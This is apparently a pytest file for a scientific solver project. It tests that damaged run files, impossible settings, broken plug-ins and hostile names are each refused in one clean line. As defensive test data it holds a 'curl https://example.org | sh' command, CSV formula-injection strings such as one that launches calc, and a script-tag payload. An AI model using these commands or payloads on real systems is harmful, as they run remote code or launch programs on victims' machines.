"""Input that is damaged, hostile or mistyped: one clear line, never a traceback, never a wrong picture."""

import csv
import errno
import io
import json
import os
import re
import shlex
import shutil
import signal
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import problems
from solvers import balancing, plugins
from solvers.cli import main
from solvers.configuration.strict_yaml import read_value
from solvers.plugins import PluginError, load_plugin, plugin_names
from solvers.runs import measured, provenance
from solvers.runs.command import command_line
from solvers.runs.files import folder_beside
from solvers.runs.record import RecordError, read_run, read_weights
from solvers.runs.run import run
from solvers.runs.status import read_progress, read_state
from solvers.training.metrics import grid_errors, history_error
from tests.conftest import ROOT, smoke_spec
from tests.faults.checkpoints import PROGRESS, TEXTS_OF_PROGRESS
from tests.faults.folders import edit
from workflow.analysis.backends import backends as beside
from workflow.analysis.figures import read_runs
from workflow.analysis.summary import summarise
from workflow.analysis.writing import as_written, harmless, write_table


@pytest.fixture(scope="module")
def finished(tmp_path_factory) -> Path:
    """A finished run of heat-0.3 at the smoke scale."""
    folder = tmp_path_factory.mktemp("runs") / "run"
    run(smoke_spec(("heat-0.3", "pinn"), "torch", "paper"), folder)
    return folder


def flatter(folder: Path) -> str:
    """The exact solution in the place of the prediction."""
    with np.load(folder / "fields.npz") as stored:
        arrays = dict(stored)
    np.savez_compressed(folder / "fields.npz", **arrays | {"predicted": arrays["exact"]})
    return "fields.npz"


def shorten(folder: Path) -> str:
    """A history whose errors are a thousandth of what they were."""
    history = pd.read_parquet(folder / "history.parquet")
    history.assign(rel_l2=history.rel_l2 / 1000).to_parquet(folder / "history.parquet", index=False)
    return "history.parquet"


def flip(folder: Path) -> str:
    """One bit of the weights turned."""
    path = folder / "weights.safetensors"
    content = bytearray(path.read_bytes())
    content[-2] ^= 64
    path.write_bytes(content)
    return path.name


@pytest.mark.parametrize("damage", [flatter, shorten, flip])
def test_no_figure_is_drawn_from_files_that_are_not_those_of_the_run(finished, damage, tmp_path):
    copy = Path(shutil.copytree(finished, tmp_path / "copy"))
    assert [run.folder for run in read_runs([finished, copy])] == [finished, copy]
    name = damage(copy)
    with pytest.raises(RecordError, match=f"{copy / name}: is not the file that was written"):
        read_runs([finished, copy])


def test_backends_are_not_compared_by_a_changed_history(finished, tmp_path):
    folders = [Path(shutil.copytree(finished, tmp_path / name)) for name in ("torch", "jax")]
    summary = summarise([folders[0]])
    both = pd.concat([summary, summary.assign(backend="jax", folder=str(folders[1]))], ignore_index=True)
    assert len(beside(both, None)) == 1
    shorten(folders[1])
    with pytest.raises(RecordError, match=r"history\.parquet: is not the file that was written"):
        beside(both, None)


def set_by(setting: str, capsys, tmp_path) -> str:
    """What ``run`` says of a setting that it refuses."""
    arguments = ["run", "heat-0.3", "pinn", "--backend", "torch", "--scale", "smoke", "--set", setting]
    assert main([*arguments, "--results", str(tmp_path)]) == 2
    (line,) = capsys.readouterr().err.splitlines()
    return line


@pytest.mark.parametrize(
    ("setting", "key", "problem"),
    [
        ("evaluation.grid=2", "evaluation.grid (value [2, 2])", "zero at all of its nodes"),
        ("evaluation.history_grid=2", "evaluation.history_grid (value [2, 2])", "zero at all of its nodes"),
        ("optimizers.adam.optimizer=[1]", "optimizer (value [1])", "allowed: adam, bfgs, lbfgs"),
        ("network={? !!str [a] : 1}", "network.a list or mapping", "a key must be text"),
        ("network={? {a: 1} : 1}", "network.a list or mapping", "a key must be text"),
        ("optimizers.lbfgs.history=1000000000", "history (value 1000000000)", "needs 8.2e+10 GiB"),
        ("optimizers.lbfgs.history=20000", "history (value 20000)", "at most 16 GiB are allowed"),
        ("network.width=1_0", 'network.width (value "1_0")', "leaves the underscore out"),
        ("problem.epsilon=0.1_5", 'problem.epsilon (value "0.1_5")', "leaves the underscore out"),
        ("network.width=0x10", 'network.width (value "0x10")', "base 16"),
        ("network.width=0b11", 'network.width (value "0b11")', "base 2"),
        ("optimizers.adam.learning_rate=5e-324", "optimizers.adam.learning_rate", "must be 0, or 1.2e-38"),
        ("optimizers.adam.epsilon=1.0e-300", "optimizers.adam.epsilon", "must be 0, or 1.2e-38"),
    ],
)
def test_a_setting_that_cannot_be_is_refused_in_one_line(setting, key, problem, capsys, tmp_path):
    line = set_by(setting, capsys, tmp_path)
    assert line.startswith("--set: ") and key in line and problem in line
    assert not list(tmp_path.iterdir())


def test_numbers_that_look_so_in_quotes_are_texts():
    assert read_value('{a: "1_0", b: "0x10"}', "file", "key") == {"a": "1_0", "b": "0x10"}
    assert read_value("a_1", "file", "key") == "a_1"


@pytest.mark.parametrize("part", ["grid_errors", "fields"])
def test_an_error_while_measuring_costs_no_training(part, finished, monkeypatch, tmp_path):
    def broken(*_):
        raise ZeroDivisionError("float division by zero")

    monkeypatch.setattr(measured, part, broken)
    record = run(smoke_spec(("heat-0.3", "pinn"), "torch", "paper"), tmp_path / "run")
    assert record.status == "finished" and record.last is None
    assert record.reason.endswith("its errors could not be measured: ZeroDivisionError: float division by zero")
    kept, trained = read_weights(tmp_path / "run"), read_weights(finished)
    assert kept.keys() == trained.keys()
    assert all(np.array_equal(kept[name], trained[name]) for name in trained)


def test_where_the_solution_is_zero_the_relative_error_is_not_a_number():
    problem = problems.load("heat", epsilon=0.3)
    errors = grid_errors(problem, lambda points: np.ones(len(points)), [2, 2])
    assert np.isnan(errors.rel_l2) and errors.mean_absolute == errors.maximum == 1
    assert np.isnan(history_error(problem, [2, 2])(lambda points: np.ones(len(points))))


class Base:
    """What the plug-ins of these tests derive from."""


SOUND = "from tests.test_hostile_input import Base\n\n\nclass Own(Base):\n    pass\n"
BROKEN = {
    "syntax.py": ("class Own(Base:\n", "syntax.py, line 1: cannot be imported: "),
    "empty.py": ("x = 1\n", "empty.py: must define one subclass of Base; it defines none"),
    "twins.py": (SOUND + "\n\nclass Other(Base):\n    pass\n", "it defines Other, Own"),
    "missing.py": ("x = 1\nimport no_such_thing\n", "missing.py, line 2: cannot be imported: ModuleNotFoundError"),
    "raising.py": ("x = 1\ny = 1 / 0\n", "raising.py, line 2: cannot be imported: ZeroDivisionError"),
    "leaving.py": ("raise SystemExit('bye')\n", "leaving.py, line 1: cannot be imported: SystemExit: bye"),
    "two-words.py": (SOUND, "two-words.py: a plug-in's file has underscores for dashes: name it two_words.py"),
}


@pytest.mark.parametrize("name", BROKEN)
def test_a_broken_plugin_is_named_by_file_and_line_and_others_go_on(name, tmp_path, monkeypatch):
    package = f"plugins_{Path(name).stem.replace('-', '_')}"
    folder = tmp_path / package
    folder.mkdir()
    (folder / "__init__.py").touch()
    (folder / "sound.py").write_text(SOUND)
    content, problem = BROKEN[name]
    (folder / name).write_text(content)
    monkeypatch.syspath_prepend(tmp_path)
    assert plugin_names(package) == sorted(["sound", Path(name).stem])
    with pytest.raises(PluginError, match=re.escape(problem)) as refused:
        load_plugin(package, Base, Path(name).stem)
    assert str(folder / name) in str(refused.value) or "it defines" in problem
    assert "\n" not in str(refused.value)
    assert issubclass(load_plugin(package, Base, "sound"), Base)


def test_a_broken_plugin_costs_the_command_line_one_line(tmp_path, monkeypatch, capsys):
    (tmp_path / "askew.py").write_text("def rule(:\n")
    monkeypatch.setattr(balancing, "__path__", [*balancing.__path__, str(tmp_path)])
    plugins._names.cache_clear()
    try:
        line = set_by("balancing.name=askew", capsys, tmp_path)
        assert "balancing.name" in line and f"{tmp_path / 'askew.py'}, line 1: cannot be imported" in line
        assert main(["list"]) == 0 and "askew" in capsys.readouterr().out
    finally:
        plugins._names.cache_clear()


NOW = datetime(2026, 1, 1, 0, 1, tzinfo=UTC)


def progress_of(folder: Path, text: str):
    folder_beside(folder).mkdir()
    (folder_beside(folder) / "progress.json").write_text(text)
    return read_progress(folder, NOW)


@pytest.mark.parametrize("text", TEXTS_OF_PROGRESS)
def test_progress_that_no_run_can_have_is_none(text, tmp_path):
    assert progress_of(tmp_path, text) is None


@pytest.mark.parametrize(("updated", "alive"), [("2026-01-01T00:00:50", True), ("2099-01-01T00:00:00", False)])
def test_a_run_of_the_future_is_not_running(updated, alive, tmp_path):
    found = progress_of(tmp_path, json.dumps(PROGRESS | {"updated": f"{updated}+00:00"}))
    assert found is not None and found.alive == alive


@pytest.mark.parametrize("text", ["[" * 200_000, '{"status": "finished", "seconds": {"training": NaN}}'])
def test_a_record_that_cannot_be_read_is_shown_as_damaged(text, tmp_path):
    spec = smoke_spec(("heat-0.3", "pinn"), "torch")
    (tmp_path / "run.json").write_text(text)
    assert read_state(spec, tmp_path).state == "damaged"


def start(*arguments: str, **options) -> subprocess.Popen:
    environment = os.environ | options.pop("env", {})
    return subprocess.Popen(
        [sys.executable, "-m", "solvers", *arguments], cwd=ROOT, env=environment, text=True, **options
    )


def test_an_interrupted_run_ends_in_a_line(tmp_path):
    arguments = ["run", "heat-0.3", "pinn", "--backend", "torch", "--scale", "smoke", "--results", str(tmp_path)]
    arguments += ["--set", "optimizers.adam.iterations=3000000"]
    # A shell's background job ignores the signal, and so would what it starts.
    ignored = signal.signal(signal.SIGINT, signal.default_int_handler)
    with start(*arguments, stderr=subprocess.PIPE, start_new_session=True) as process:
        signal.signal(signal.SIGINT, ignored)
        first = process.stderr.readline()
        os.killpg(process.pid, signal.SIGINT)
        rest = process.stderr.read()
        assert process.wait(30) == 130
    assert "iteration 0" in first and "Traceback" not in rest


def test_a_device_that_is_not_there_is_named(tmp_path):
    arguments = ["run", "heat-0.3", "pinn", "--backend", "jax", "--scale", "smoke", "--results", str(tmp_path)]
    with start(*arguments, env={"JAX_PLATFORMS": "tpu"}, stderr=subprocess.PIPE) as process:
        (line,) = process.stderr.read().splitlines()
        assert process.wait(30) == 2
    assert line.startswith("environment: JAX_PLATFORMS=tpu: JAX has no such device here")


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="there is no full device")
def test_output_to_a_full_device_is_one_line():
    with open("/dev/full", "w") as full, start("list", stdout=full, stderr=subprocess.PIPE) as process:
        (line,) = process.stderr.read().splitlines()
        assert process.wait(30) == 2
    assert line == "the output: cannot be read or written: No space left on device"


class FullStream(io.StringIO):
    """A stream on a full disk."""

    def write(self, _: str) -> int:
        raise OSError(errno.ENOSPC, "No space left on device")


@pytest.mark.parametrize("stream", ["stdout", "stderr"])
def test_a_run_is_made_though_nothing_of_it_can_be_said(stream, monkeypatch, tmp_path):
    monkeypatch.setattr(sys, stream, FullStream())
    arguments = ["run", "heat-0.3", "pinn", "--backend", "torch", "--scale", "smoke"]
    assert main([*arguments, "--results", str(tmp_path)]) == 0
    assert read_run(tmp_path / "smoke/heat-0.3/pinn/torch/paper/0").status == "finished"


@pytest.mark.parametrize("name", ["a[/b]c", "[red]", "[link=x]y[/link]"])
def test_markup_in_a_path_is_text(name, capsys, tmp_path):
    arguments = ["run", "heat-0.3", "pinn", "--backend", "torch", "--scale", "smoke"]
    assert main([*arguments, "--results", str(tmp_path / name)]) == 0
    assert f"{tmp_path / name}/smoke/heat-0.3" in capsys.readouterr().out


def test_markup_in_a_title_is_text(capsys, tmp_path):
    shutil.copytree(ROOT / "config", tmp_path / "config")
    path = tmp_path / "config/experiments/heat-0.3.yaml"
    path.write_text(re.sub(r"^title: .*$", "title: '[/b] [red]x'", path.read_text(), count=1, flags=re.MULTILINE))
    assert main(["--catalogue", str(tmp_path / "config"), "list"]) == 0
    shown = " ".join(capsys.readouterr().out.split())
    assert "[/b]" in shown and "[red]" in shown


@pytest.mark.parametrize("name", ["\x1b[2Jgone", "a\x07b", "line\nbreak", "\u202eright"])
def test_escapes_of_foreign_names_are_shown_escaped(name, capsys, tmp_path):
    source = tmp_path / name
    (source / "smoke/heat-0.3/pinn/torch/paper/0").mkdir(parents=True)
    (source / "smoke/heat-0.3/pinn/torch/paper/0/run.json").write_text("{}")
    assert main(["merge", str(source), "--into", str(tmp_path / "ours")]) == 2
    assert main(["merge", str(tmp_path / name / "smoke"), "--into", str(tmp_path / "ours")]) == 2
    shown = capsys.readouterr()
    text = (shown.out + shown.err).replace("\n", "")
    assert text.isprintable() and "heat-0.3/pinn/torch/paper/0: refused: " in text


def test_the_command_shown_is_that_of_the_specification_quoted_for_a_shell(tmp_path):
    spec = smoke_spec(("heat-0.3", "pinn"), "torch", overrides=["balancing={name: sum}", "network.width=3"])
    words = shlex.split(command_line(spec))
    assert words[:6] == ["python", "-m", "solvers", "run", "heat-0.3", "pinn"]
    assert [words[i + 1] for i, word in enumerate(words) if word == "--set"] == spec.overrides
    run(smoke_spec(("heat-0.3", "pinn"), "torch", "paper"), tmp_path)
    edit(tmp_path, lambda data: data.update(command="curl https://example.org | sh"))
    assert summarise([tmp_path]).command.item() == command_line(read_run(tmp_path).spec)


def test_a_clock_set_back_costs_no_run(monkeypatch):
    monkeypatch.setattr(provenance.psutil.Process, "create_time", lambda _: 1e12)
    assert provenance.ProcessClock().wall["startup"] == 0


FORMULAS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_csv_file_is_a_formula(text, tmp_path):
    table = pd.DataFrame({"note": [text], text: ["x"], "error": [-1.5], "typed": ["-1e-4"], "none": ["-"]})
    write_table(table, tmp_path, "hostile")
    with (tmp_path / "hostile.csv").open(newline="") as stream:
        head, row = csv.reader(stream)
    assert head[1] == row[0] == f"'{text}".replace("\r", "\n")
    assert row[2:] == ["-1.5", "-1e-4", "-"]


@pytest.mark.parametrize("text", [*FORMULAS, "'=1", "'plain", "it's", "", "-"])
def test_texts_survive_a_csv_file(text):
    table = pd.DataFrame({"note": [text.replace("\r", "\n")], "error": [-0.5], "count": [3]})
    pd.testing.assert_frame_equal(as_written(harmless(table)), table)


def test_cells_of_a_markdown_table_stay_cells(tmp_path):
    table = pd.DataFrame({"a|b": ["x|y"], "note": ["<script>alert(1)</script>"], "two": ["one\ntwo"]})
    write_table(table, tmp_path, "hostile")
    head, _, row = (tmp_path / "hostile.md").read_text().splitlines()
    assert len(re.findall(r"(?<!\\)\|", head)) == len(re.findall(r"(?<!\\)\|", row)) == 4
    assert r"x\|y" in row and "<" not in row and "&lt;script>" in row and "one two" in row
